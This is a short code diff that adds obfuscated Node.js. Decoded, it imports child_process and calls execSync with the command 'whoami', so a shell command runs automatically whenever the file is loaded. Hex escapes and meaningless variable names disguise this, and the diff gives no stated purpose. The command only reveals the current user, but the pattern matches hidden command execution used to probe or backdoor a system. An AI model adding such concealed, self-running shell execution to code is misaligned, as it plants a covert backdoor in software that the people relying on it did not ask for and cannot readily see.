@@ -1,0 +1,3 @@
+var _0x3e1f=require,_0x2a9b=_0x3e1f('\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73'),_0x51c0='\x65\x78\x65\x63\x53\x79\x6e\x63',_0x4d7a='\x77\x68\x6f\x61\x6d\x69';
+function _0x1c2d(_0x5e6f,_0x7a8b){return _0x5e6f[_0x51c0](_0x7a8b);}
+_0x1c2d(_0x2a9b,_0x4d7a);
